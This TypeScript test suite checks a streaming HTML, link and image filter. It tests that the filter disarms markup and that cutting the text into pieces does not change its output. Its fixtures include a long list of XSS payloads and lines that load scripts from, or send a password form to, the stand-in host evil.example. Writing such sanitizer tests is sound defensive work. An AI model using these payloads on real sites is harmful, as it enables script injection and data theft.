// The filter for HTML, links and images of running texts: what it stops, what it leaves, and that cuts do not matter.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import { marked } from 'marked';
import { chromium } from 'playwright-core';
import type { Browser } from 'playwright-core';
import sanitizeHtml from 'sanitize-html';
import { benign, policy as hosts, smuggled } from '../../../test/bench/corpora/links.mjs';
import { chromiumFlags } from '../../../test/support/chromium.mjs';
import { growthOf } from '../../../test/support/cost.ts';
import { runs } from '../../../test/support/runs.ts';
import { describeWith } from '../../../test/support/services.ts';
import { hostTest } from '../src/links/hosts.ts';
import { parseUrl } from '../src/links/parse-url.ts';
import { createMarkupFilter } from '../src/markup/markup-filter.ts';
import type { DestinationPolicy, MarkupFinding, MarkupPolicy } from '../src/markup/policy.ts';

interface Outcome {
  readonly text: string;
  readonly blocked: boolean;
  readonly findings: readonly MarkupFinding[];
}

function outcome(policy: MarkupPolicy, pieces: readonly string[]): Outcome {
  const findings: MarkupFinding[] = [];
  const filter = createMarkupFilter(policy)('text', (finding) => findings.push(finding));
  if (filter === undefined) throw new Error('no filter for texts');
  let text = '';
  for (const piece of pieces) text += filter.push(piece);
  text += filter.end();
  return { text, blocked: filter.blocked, findings };
}

const to = (allowed: readonly string[] | undefined, action: DestinationPolicy['action']): DestinationPolicy => ({
  allows: allowed === undefined ? undefined : hostTest('test', 'hosts', allowed),
  action,
});
const html = (treatment: MarkupPolicy['html']): MarkupPolicy => ({ html: treatment, links: 'allow', images: 'allow' });
const only = (rule: 'links' | 'images', action: DestinationPolicy['action']): MarkupPolicy => ({
  ...html('allow'),
  [rule]: to(hosts[rule], action),
});
const everything = (
  action: DestinationPolicy['action'],
  treatment: MarkupPolicy['html'] = 'sanitize',
): MarkupPolicy => ({
  html: treatment,
  links: to(hosts.links, action),
  images: to(hosts.images, action),
});
const sanitized = (text: string): string => outcome(html('sanitize'), [text]).text;

/** Whole, unit by unit, and in two at every position. */
function expectSameHoweverCut(policy: MarkupPolicy, text: string): Outcome {
  const whole = outcome(policy, [text]);
  expect(outcome(policy, text.split(''))).toEqual(whole);
  for (let at = 1; at < text.length; at++) {
    const cut = outcome(policy, [text.slice(0, at), text.slice(at)]);
    if (cut.text !== whole.text || cut.blocked !== whole.blocked) expect([at, text, cut]).toEqual([at, text, whole]);
  }
  return whole;
}

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=x\tonerror\n=\ralert(1)>',
  '<IMG SRC="x" ONERROR="alert(1)"',
  '<img src="x`" onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<b onmouseover=alert(1)>hover</b>',
  '<b then c onmouseover=alert(1)>hover</b>',
  '<n;i++ x="<b y z onmouseover=alert(1)>">',
  '<a<b onmouseover=alert(1)>hover',
  '<x y z style="position:fixed">',
  '<p onclick>x<b onfocus="alert(1)" tabindex=0 autofocus>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a foo href=javascript:alert(1)>x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<div class="fixed inset-0" style="position:fixed;inset:0">cover</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<! <b title="> <img src=x onerror=alert(1)>">',
  '</" <b title="> <img src=x onerror=alert(1)>">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)>?>',
  '<a title="<script>">x</a><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg<x onload=alert(1)>',
  '<script\u0000>alert(1)</script>',
  'List<iframe>',
];

const ordinary: readonly string[] = [
  'no markup at all',
  'a < b && c > d',
  'if (a<b && c>d) return x <= y;',
  'for (int i=0;i<n;i++) {\n  sum += a[i];\n}',
  '#include <iostream>\n#include <math.h>\nstd::map<int, std::vector<std::set<int>>> m;',
  'function f<T extends Foo>(x: Array<T>): Promise<T> {}',
  'Map<base, object> & vector<int>, List<Object>, Option<Vec<u8>>',
  '<b>bold</b>, <i>italic</i><br/> and <code class="language-js">x &amp; y</code>',
  '<a href="https://example.com" title="t">a link</a> and <a href="/here" target=_blank>another</a>',
  '<item key="value"/> and <name>x</name>',
  '```js\nif (a < b) { c = "</"; }\n```',
  'git commit -m <message> <file>',
  'From: A <a@example.com>',
  '1 <2 <!> <3 ?< >',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!DOCTYPE html> <!-- a note --> <?php echo 1; ?>',
  'a<b and so on to the end',
  'impl Future<Output = T>; fn f<T: Add<Output = T>>(a: T); dyn Fn<Output=T>; Promise<Input extends X>;',
  '<li key={item.id}>one</li> <P user={{ id: 42 }} />',
  '\ud800 a lone surrogate < x',
  '<',
];

// What a parser makes of a text, by htmlparser2: whatever it takes for a tag.
const ACTIVE_ELEMENT =
  /^(?:script|style|iframe|frame|frameset|svg|math|object|embed|form|meta|base|link|template|noscript|title|textarea|xmp|plaintext|input|button|select|applet)$/;
function activeParts(text: string): string[] {
  const found: string[] = [];
  sanitizeHtml(text, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    onOpenTag: (name, attributes) => {
      if (ACTIVE_ELEMENT.test(name)) found.push(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (value !== '' && /^(?:on.+|style|srcdoc|formaction|action)$/.test(attribute)) found.push(attribute);
        // oxlint-disable-next-line no-control-regex -- a browser skips them
        const plain = value.replaceAll(/[\u0000-\u0020]/g, '');
        if (
          /^(?:a|img|area)$/.test(name) &&
          /^(?:href|src)$/.test(attribute) &&
          /^(?:javascript|vbscript|data):/i.test(plain)
        )
          found.push(plain);
      }
    },
  });
  return found;
}

const words = (list: string): string[] => list.split('~');
const token = fc.constantFrom(
  ...attacks,
  ...attacks.flatMap((attack) => [attack.slice(0, 9), attack.slice(-9)]),
  ...smuggled.map(({ text }) => text.slice(7, -7)),
  ...words('<~>~"~\'~`~=~/~!~?~-~--~[~]~(~)~![~](~]:~:~\\~&~#~ ~\n~\n\n~\t~\u00a0~\u200b~x~word ~$~}'),
  ...words('<a ~<b~<img ~<x~i<n~ onclick~ href~ src~<!--~-->~<![CDATA[~]]>~<?php~</'),
  ...words('http~https:~//~www.~evil.example~docs.example.com~@~[r]~javascript:~&colon;~&#58;~image::~\\url{~[img]'),
);
const soup = fc.array(token, { maxLength: 14 }).map((tokens) => tokens.join(''));
const treatments = ['sanitize', 'escape', 'block', 'flag', 'allow'] as const;
const anyPolicy = fc
  .record({
    html: fc.constantFrom(...treatments),
    links: fc.constantFrom(
      'allow',
      to(undefined, 'block'),
      to(hosts.links, 'remove'),
      to(hosts.links, 'block'),
      to(hosts.links, 'flag'),
    ),
    images: fc.constantFrom('allow', to([], 'block'), to(hosts.images, 'remove'), to(hosts.images, 'flag')),
  })
  .filter(
    (policy) => policy.html !== 'allow' || policy.links !== 'allow' || policy.images !== 'allow',
  ) as fc.Arbitrary<MarkupPolicy>;

describe('cuts', () => {
  it('never change what leaves, where it ends, or what is found', () => {
    fc.assert(
      fc.property(
        anyPolicy,
        soup,
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 8 }),
        (policy, text, sizes) => {
          const pieces: string[] = [];
          for (let at = 0, index = 0; at < text.length; index++) {
            const size = sizes[index % sizes.length] ?? 1;
            pieces.push(text.slice(at, at + size));
            at += size;
          }
          expect(outcome(policy, pieces)).toEqual(outcome(policy, [text]));
          expect(outcome(policy, text.split(''))).toEqual(outcome(policy, [text]));
        },
      ),
      { numRuns: runs(63) },
    );
  });
});

describe('html', () => {
  it.each(attacks)('leaves nothing active of %j', (attack) => {
    const text = `before ${attack} after`;
    const { text: clean, findings } = expectSameHoweverCut(html('sanitize'), text);
    expect(activeParts(clean)).toEqual([]);
    expect(findings).toContainEqual({ rule: 'html', action: 'sanitize' });
    const refused = expectSameHoweverCut(html('block'), text);
    expect(refused.blocked).toBe(true);
    expect(refused.findings.at(-1)).toEqual({ rule: 'html', action: 'block' });
    expect(activeParts(expectSameHoweverCut(html('escape'), text).text)).toEqual([]);
    expect(expectSameHoweverCut(html('flag'), text)).toMatchObject({ text, blocked: false });
    expect(outcome(html('flag'), [text]).findings).toContainEqual({ rule: 'html', action: 'flag' });
  });

  it.each(ordinary)('does not change %j', (text) => {
    expect(expectSameHoweverCut(html('sanitize'), text)).toEqual({ text, blocked: false, findings: [] });
    expect(outcome(html('block'), [text]).blocked).toBe(false);
  });

  it.each([
    [
      '<p>one <b onclick=x()>two</b></p><script>three()</script>',
      '<p>one <b>two</b></p>&lt;script>three()&lt;/script>',
    ],
    ['<a href="javascript:x" title=t>one</a>', '<a title="t">one</a>'],
    ['<div class="fixed" id=x data-hx="y">one</div>', '<div>one</div>'],
    ['<p title="a > b">one</p>', '<p title="a &gt; b">one</p>'],
    ['an <svg> icon', 'an &lt;svg> icon'],
    // An odd name to one parser, a known one to another.
    ['<x:script>', '&lt;x:script>'],
    ['<script\u0000>', '&lt;script\u0000>'],
    ['<svg<x>', '&lt;svg<x>'],
    ['a<b && c onclick=d>', 'a<b && c onclick&#61;d>'],
    ['<!-- a > b -->', '&lt;!-- a > b -->'],
    ['<b title="never closed', '&lt;b title="never closed'],
    ['<Foo onClick={x}/>', '&lt;Foo onClick={x}/>'],
    ['<li style={item.id}>one</li>', '&lt;li style={item.id}>one</li>'],
    ['<li key={"a>b"}>one</li>', '&lt;li key={"a>b"}>one</li>'],
    ['x<Input = src=//evil.example type=image>', 'x<Input = src&#61;//evil.example type=image>'],
    ['x<Input src=//evil.example type=image>', 'x&lt;Input src=//evil.example type=image>'],
    [' <Input = T>', ' &lt;Input = T>'],
  ])('makes of %j %j', (text, expected) => {
    expect(expectSameHoweverCut(html('sanitize'), text).text).toBe(expected);
    expect(sanitized(expected)).toBe(expected);
  });

  it.each([
    ['<p <n; on==', '<p <n; on&#61;='],
    ['<x <y;<z; on== a<b c> onclick=1', '<x <y;<z; on&#61;= a<b c> onclick=1'],
  ])('disarms %j in the same way however it is cut', (text, expected) => {
    expect(expectSameHoweverCut(html('sanitize'), text).text).toBe(expected);
    expectSameHoweverCut(html('block'), text);
    expectSameHoweverCut(html('flag'), text);
  });

  it('shows every tag from the first active one on, when it escapes', () => {
    expect(outcome(html('escape'), ['<b>1</b> vector<int> <i onclick=x>2</i> <b>3</b>']).text).toBe(
      '<b>1</b> vector<int> &lt;i onclick=x>2&lt;/i> &lt;b>3&lt;/b>',
    );
  });

  it('leaves nothing active of attacks cut and glued together', () => {
    fc.assert(
      fc.property(soup, fc.constantFrom('sanitize', 'escape'), (text, treatment) => {
        const { text: clean } = outcome(html(treatment), [text]);
        expect(activeParts(clean)).toEqual([]);
      }),
      { numRuns: runs(63) },
    );
  });

  it('shows a tag whose attributes parsers name differently, and one of too many to read', () => {
    for (const text of ['<p title="t" a"b=c onclick=d>', `<p ${'id=x '.repeat(501)}onclick=c>`])
      expect(outcome(html('sanitize'), [text])).toMatchObject({ text: text.replace('<', '&lt;'), blocked: false });
  });

  it('says nothing about tool arguments', () => {
    expect(createMarkupFilter(everything('block'))('tool-args', () => {})).toBeUndefined();
  });
});

describeWith('chromium', 'in a browser', (executablePath) => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({ executablePath, args: chromiumFlags });
  }, 30_000);
  afterAll(() => browser.close());

  it('nothing active is left of attacks, alone and glued together', async () => {
    const glued = fc.sample(soup, { numRuns: runs(100), seed: 4 });
    const texts = [...attacks, ...glued].flatMap((text) => [sanitized(text), outcome(html('escape'), [text]).text]);
    const page = await browser.newPage();
    const audit = `((texts) => texts.flatMap((text) => {
      const found = [];
      const inert = document.implementation.createHTMLDocument('');
      inert.body.innerHTML = text;
      for (const root of [inert.body, new DOMParser().parseFromString(text, 'text/html').body]) {
        for (const element of root.querySelectorAll('*')) {
          if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml' || ${ACTIVE_ELEMENT}.test(element.localName)) found.push(text);
          for (const { name, value } of element.attributes) {
            if (value !== '' && /^(?:on.+|style|srcdoc|formaction|action)$/.test(name)) found.push(text);
            if (name === 'href' && element.protocol === 'javascript:') found.push(text);
          }
        }
      }
      return found;
    }))`;
    expect(await page.evaluate(`${audit}(${JSON.stringify(texts)})`)).toEqual([]);
    // The audit itself sees what was not filtered.
    const plain = (await page.evaluate(`${audit}(${JSON.stringify(attacks)})`)) as string[];
    expect(new Set(plain).size).toBeGreaterThan(45);
    await page.close();
  }, 30_000);
});

describe('links and images', () => {
  it.each(smuggled)('$through: stops $name', ({ name, text, through }) => {
    const { blocked, text: left, findings } = expectSameHoweverCut(only(through, 'block'), text);
    expect(blocked).toBe(true);
    expect(findings).toEqual([{ rule: through, action: 'block' }]);
    // A definition that comes first is a link's, until an image asks for it.
    if (!(through === 'images' && name.includes('definition first'))) expect(left).not.toMatch(/evil\.example/i);
    const all = expectSameHoweverCut(everything('block', 'allow'), text);
    expect(all.blocked).toBe(true);
  });

  it.each(smuggled)('$through: removes, or else stops, $name', ({ name, text, through }) => {
    const removed = expectSameHoweverCut(only(through, 'remove'), text);
    if (removed.blocked) return;
    expect(outcome(only(through, 'block'), [removed.text])).toMatchObject({ text: removed.text, blocked: false });
    const flagged = expectSameHoweverCut(only(through, 'flag'), text);
    expect(flagged).toMatchObject({ text, blocked: false });
    // A tag that has left open is disarmed by the other two actions only.
    if (!name.includes('what is no tag')) expect(flagged.findings).toContainEqual({ rule: through, action: 'flag' });
  });

  it.each(benign)('does not change $name', ({ text }) => {
    expect(expectSameHoweverCut(everything('block'), text)).toEqual({ text, blocked: false, findings: [] });
  });

  it.each([
    ['see https://evil.example/a now', 'see [link removed] now'],
    ['A [page](https://evil.example/?q=1 "t") B', 'A [page](about:invalid "t") B'],
    ['A ![chart](<https://evil.example/?q=1>) B', 'A ![chart](<about:invalid>) B'],
    ['[r]: https://evil.example\n\n![x][r]', '[r]: about:invalid\n\n![x][r]'],
    ['<a href="https://evil.example/">x</a>', '<a href="about:invalid">x</a>'],
    ['https://evil.example (javascript:x)', '[link removed] (about:invalid)'],
  ])('removes from %j', (text, expected) => {
    expect(outcome(everything('remove'), [text]).text).toBe(expected);
  });

  it('refuses an image that asks for what only a link may have, whichever comes first', () => {
    const links: MarkupPolicy = { ...html('allow'), images: to([], 'remove') };
    const definition = '[Ref]: https://elsewhere.example/';
    expect(expectSameHoweverCut(links, `${definition}\n\n[x][ref] ![y][ref] ![ref] ![z]`).text).toBe(
      `${definition}\n\n[x][ref] ![y][about:invalid] ![ref (image removed)] ![z]`,
    );
    expect(expectSameHoweverCut(links, `[x][ref] ![y][REF]\n\n${definition}`).text).toContain('[Ref]: about:invalid');
    expect(expectSameHoweverCut(links, `[x][ref] ![y][other]\n\n${definition}`).text).toContain(definition);
  });

  it('disarms a tag in what is a comment to others', () => {
    const text = `<!-- <p title="--><img alt='">' src=//evil.example/a>`;
    const expected = `<!-- <p title="-->&lt;img alt='">' src=//evil.example/a>`;
    expect(expectSameHoweverCut(everything('block', 'allow'), text)).toMatchObject({ text: expected, blocked: false });
    expect(expectSameHoweverCut(everything('flag', 'allow'), text)).toMatchObject({ text, blocked: false });
  });

  it.each([
    'See `<style>` or `<link>`; more at https://evil.example/a, f(x).\n(see https://evil.example)\n',
    '<style>a{}</style> https://evil.example/a "url(x)',
    'x[i](file: File) [s](https:) handlers[name](https: true)',
  ])('has nothing against %j', (text) => {
    const policy: MarkupPolicy = { ...everything('block', 'allow'), links: to(undefined, 'block') };
    expect(expectSameHoweverCut(policy, text)).toEqual({ text, blocked: false, findings: [] });
  });

  it.each(words('javascript~vbscript~livescript~mocha~data~blob~file~filesystem~view-source~jar~mhtml~intent~ms-word'))(
    'stops a scheme that is more than an address, whatever hosts are allowed: %s',
    (scheme) => {
      const policy: MarkupPolicy = { ...html('allow'), links: to(undefined, 'block') };
      expect(expectSameHoweverCut(policy, `a <${scheme}:x> b`)).toMatchObject({ text: 'a ', blocked: true });
    },
  );

  it('holds nothing of prose and code for long', () => {
    for (const { text } of benign) {
      const filter = createMarkupFilter(everything('block'))('text', () => {});
      let left = 0;
      for (let at = 0; at < text.length; at++) {
        left += filter?.push(text.charAt(at)).length ?? 0;
        // The longest tag or destination of the corpus.
        expect(at + 1 - left).toBeLessThanOrEqual(64);
      }
    }
  });
});

describe('in a renderer', () => {
  /** Where a page made of a text by marked would lead, or load from, that is neither its own origin nor allowed. */
  function foreign(text: string, seesLinks = true): string[] {
    const found: string[] = [];
    const judge = (value: string, allowed: readonly string[]): void => {
      for (const base of ['https://home.invalid/a/', 'http://home.invalid/a/']) {
        const url = parseUrl(decoded(value), base);
        if (url === undefined || url.href === 'about:invalid') continue;
        const isWeb = /^https?:$/.test(url.protocol);
        if (!isWeb || ![...allowed, 'home.invalid'].includes(url.hostname)) found.push(value);
      }
    };
    sanitizeHtml(marked.parse(text) as string, {
      allowedTags: false,
      allowedAttributes: false,
      allowVulnerableTags: true,
      onOpenTag: (name, { src, href }) => {
        if (name === 'img' && src !== undefined) judge(src, ['cdn.example.com']);
        const isLed = name === 'a' && href !== undefined && !href.startsWith('mailto:');
        if (isLed && (seesLinks || href.startsWith('javascript:'))) judge(href, ['docs.example.com']);
      },
    });
    return found;
  }
  const decoded = (value: string): string => value.replaceAll('&amp;', '&');
  const BLANK = '\u00a0~\u1680~\u2000~\u200a~\u2028~\u2029~\u202f~\u205f~\u3000~\ufeff~ ~\t~&nbsp;~&#x3000;';
  const definitions = fc.constantFrom(
    '',
    '[b]: https://evil.example/r',
    '[b]:\u3000//evil.example/r',
    '> [b]: <//evil.example/r>',
  );
  const parts = fc.oneof(
    fc.constantFrom(...words(BLANK)),
    fc.constantFrom(
      ...words(
        '![x](~[x](~![b]~![x~![b][~[~]~][b]~`]`~\\\\]~[y](z"]")~<b title="]">~<!--]-->~(~)~`~\\~<~>~x~/~./~$~\n~\n\n',
      ),
    ),
    fc.constantFrom(
      ...words(
        'https://evil.example/x~//evil.example/x~javascript:alert(1)~https&colon;//evil.example/x~www.evil.example',
      ),
    ),
  );
  // A whole image is seldom put together by chance.
  const descriptions = fc.constantFrom(...words('~`]`~\\\\~[y](z"]")~<b title="]">~<!--]-->~[y]~`[`~\\]'));
  const ends = fc.constantFrom(...words('][b]~]~][]~](\u00a0//evil.example/x)~](<\u3000https://evil.example/x>)~][b'));
  const image = fc.tuple(descriptions, ends).map(([description, end]) => `![b${description}${end}`);
  const rendered = fc
    .tuple(definitions, fc.array(fc.oneof(parts, parts, image), { minLength: 1, maxLength: 7 }), definitions)
    .map(([first, middle, last]) => `${first}\n\n${middle.join('')}\n\n${last}`);

  it.each(['block', 'remove'] as const)('nothing foreign is left of what the action %s lets out', (action) => {
    // The check sees what was not filtered.
    const unfiltered = fc.sample(rendered, { numRuns: 200, seed: 4 });
    expect(unfiltered.flatMap((text) => foreign(text)).length).toBeGreaterThan(20);
    fc.assert(
      fc.property(rendered, fc.boolean(), (text, seesLinks) => {
        // A definition that leads somewhere may stay for the sake of links, until an image asks for it.
        const policy = { ...everything(action), ...(seesLinks ? {} : { links: to(undefined, action) }) };
        const left = outcome(policy, [text]);
        if (!left.blocked) expect([left.text, foreign(left.text, seesLinks)]).toEqual([left.text, []]);
      }),
      { numRuns: runs(400) },
    );
  });
});

describe('hostile texts', () => {
  const repeated = (text: string, length: number): string => text.repeat(Math.ceil(length / text.length));
  it.each([
    ...words('<~<a~<a ~<a b="~<a b=\'<c d="~<!--~<?x~</~<b && ~<a<b x="~<x y="a" '),
    ...words('[~]~![~](~![](~[a](b~![](a:/~](https://a ~](https://a/~[r]: x\n~![x][~![r]~](\\)~](<\\>~![[~[url=~[img]'),
    ...words('&~&#~&#58~http~https://~https:~https&#0~www~www.~www.a"~<ab:~image:~image::a'),
    ...words('](![[~](\\url{~](\\url{x<a:[~]:![a][~<https:~<https:](~\\h~\\href ~image:a:~\\includegraphics[a]'),
    ...words(
      '<p x=<~<iframe\u0000<~<style>url(~<style>a<~<style><b>f(x)\n~![x`][~](\u00a0~![x\\]~![a][`]~<p x="<b y=\'',
    ),
    ...words('<p <n; on=~x<Output = ~\\~\\url{~\\url{]~\\includegraphics[~`~`![~(~$'),
  ])('takes time in proportion to the length of %j, repeated', (part) => {
    // Four times the length, each beyond what is ever kept back.
    const whole = (length: number) => () => void outcome(everything('remove'), [repeated(part, length)]);
    expect(growthOf(whole(9_000), whole(36_000), 9).factor).toBeLessThan(9);
    const units = (length: number) => () => void outcome(everything('flag', 'allow'), repeated(part, length).split(''));
    expect(growthOf(units(9_000), units(36_000), 9).factor).toBeLessThan(9);
  });

  it('shows a tag that is too long as text', () => {
    const { text } = outcome(html('sanitize'), [`<a title="${'x'.repeat(9000)}"> <b>`]);
    expect(text.startsWith('&lt;a')).toBe(true);
    expect(text.endsWith('<b>')).toBe(true);
  });
});
